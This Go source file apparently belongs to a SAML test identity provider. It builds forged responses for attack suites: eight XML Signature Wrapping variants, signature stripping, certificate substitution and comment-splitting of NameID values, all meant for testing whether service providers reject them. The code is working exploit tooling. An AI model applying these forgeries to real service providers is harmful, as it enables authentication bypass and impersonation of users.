package demoidp

import (
	"encoding/base64"
	"fmt"
	"strings"

	"github.com/beevik/etree"
)

// This file holds the building blocks of the SAML attack suites: Tamper
// functions that turn a genuinely signed response into the forgeries a
// service provider must refuse. They change only the XML they are given;
// the response stays signed by whoever signed it.

// XSWSigning is the signing each XML Signature Wrapping variant expects of
// the response it manipulates, as SAML Raider applies them: XSW1 and XSW2
// wrap a signed Response (whose assertion is unsigned), XSW3 to XSW8 a
// signed assertion (in an unsigned Response).
func XSWSigning(n int) Signing {
	if n <= 2 {
		return SignResponseOnly
	}
	return SignAssertionOnly
}

// XSW returns a Tamper function applying XML Signature Wrapping variant n
// (1 to 8) as catalogued by SAML Raider (its XSWHelpers), to a response
// signed as XSWSigning(n) says and not encrypted. evil is applied to the
// forged copy, the part an SP fooled by the wrapping would read: it
// should change who the assertion names. The signed original stays
// intact somewhere in the document, which is what keeps its signature
// valid.
func XSW(n int, evil func(*etree.Element)) (func(*etree.Element), error) {
	if n < 1 || n > 8 {
		return nil, fmt.Errorf("demoidp: no XSW variant %d", n)
	}
	return func(root *etree.Element) {
		switch n {
		case 1:
			// The original Response, unsigned, inside the Signature of an
			// evil Response with another ID.
			orig := withoutSignature(root)
			evil(root)
			root.CreateAttr("ID", "_evil_response_ID")
			childNamed(root, "Signature").AddChild(orig)
		case 2:
			// The original Response as a sibling before the Signature of
			// the evil one (a detached signature).
			orig := withoutSignature(root)
			evil(root)
			root.CreateAttr("ID", "_evil_response_ID")
			root.InsertChildAt(childNamed(root, "Signature").Index(), orig)
		case 3:
			// An evil assertion with another ID before the signed one.
			a := childNamed(root, "Assertion")
			forged := withoutSignature(a)
			forged.CreateAttr("ID", "_evil_assertion_ID")
			evil(forged)
			root.InsertChildAt(a.Index(), forged)
		case 4:
			// An evil assertion in place of the signed one, which it wraps.
			a := childNamed(root, "Assertion")
			forged := withoutSignature(a)
			forged.CreateAttr("ID", "_evil_assertion_ID")
			evil(forged)
			root.RemoveChild(a)
			forged.AddChild(a)
			root.AddChild(forged)
		case 5:
			// The signed assertion is changed and renamed in place; an
			// unsigned copy of the original follows it.
			a := childNamed(root, "Assertion")
			orig := withoutSignature(a)
			a.CreateAttr("ID", "_evil_assertion_ID")
			evil(a)
			root.AddChild(orig)
		case 6:
			// As 5, with the original copy inside the evil one's Signature.
			a := childNamed(root, "Assertion")
			orig := withoutSignature(a)
			a.CreateAttr("ID", "_evil_assertion_ID")
			evil(a)
			childNamed(a, "Signature").AddChild(orig)
		case 7:
			// An evil copy with the same ID in an Extensions element
			// (without namespace, as SAML Raider makes it) before it.
			a := childNamed(root, "Assertion")
			forged := withoutSignature(a)
			evil(forged)
			ext := etree.NewElement("Extensions")
			ext.AddChild(forged)
			root.InsertChildAt(a.Index(), ext)
		case 8:
			// The signed assertion is changed in place, keeping its ID; an
			// unsigned copy of the original sits in an Object element in
			// its Signature.
			a := childNamed(root, "Assertion")
			orig := withoutSignature(a)
			evil(a)
			obj := etree.NewElement("Object")
			obj.AddChild(orig)
			childNamed(a, "Signature").AddChild(obj)
		}
	}, nil
}

// ReplaceText returns a function that replaces old with new in the text of
// every element below the one it is given (NameID, AttributeValue,
// Audience ...), for the evil argument of XSW.
func ReplaceText(pairs ...string) func(*etree.Element) {
	return func(el *etree.Element) {
		for _, d := range el.FindElements(".//*") {
			if d.Space == "ds" || d.Tag == "Signature" {
				continue
			}
			t := d.Text()
			if t == "" {
				continue
			}
			for i := 0; i+1 < len(pairs); i += 2 {
				t = strings.ReplaceAll(t, pairs[i], pairs[i+1])
			}
			if t != d.Text() {
				d.SetText(t)
			}
		}
	}
}

// StripSignatures removes every XML signature from a response: the
// Response's and its assertion's (signature exclusion).
func StripSignatures(root *etree.Element) {
	for _, el := range append([]*etree.Element{root}, root.FindElements(".//Assertion")...) {
		if s := childNamed(el, "Signature"); s != nil {
			el.RemoveChild(s)
		}
	}
}

// ClaimCertificate returns a Tamper function that puts cert (DER) in the
// KeyInfo of every signature, so that a signature made with one key names
// the certificate of another, for instance one the SP trusts.
func ClaimCertificate(cert []byte) func(*etree.Element) {
	b64 := base64.StdEncoding.EncodeToString(cert)
	return func(root *etree.Element) {
		for _, c := range root.FindElements(".//X509Certificate") {
			c.SetText(b64)
		}
	}
}

// SplitWithComment returns a Tamper function that cuts the text value of
// every NameID and AttributeValue equal to whole in two at prefix with an
// empty comment, so "alice@example.com.evil.example" becomes
// "alice@example.com<!---->.evil.example". Exclusive canonicalization
// drops comments, so the signature still holds; an SP that reads only the
// first text node would see prefix alone.
func SplitWithComment(whole, prefix string) func(*etree.Element) {
	return func(root *etree.Element) {
		if !strings.HasPrefix(whole, prefix) {
			return
		}
		for _, el := range append(root.FindElements(".//NameID"), root.FindElements(".//AttributeValue")...) {
			if el.Text() != whole {
				continue
			}
			el.SetText("")
			el.CreateText(prefix)
			el.CreateComment("")
			el.CreateText(strings.TrimPrefix(whole, prefix))
		}
	}
}

func childNamed(el *etree.Element, tag string) *etree.Element {
	for _, c := range el.ChildElements() {
		if c.Tag == tag {
			return c
		}
	}
	return nil
}

// withoutSignature is a copy of el without its own Signature.
func withoutSignature(el *etree.Element) *etree.Element {
	c := el.Copy()
	if s := childNamed(c, "Signature"); s != nil {
		c.RemoveChild(s)
	}
	return c
}
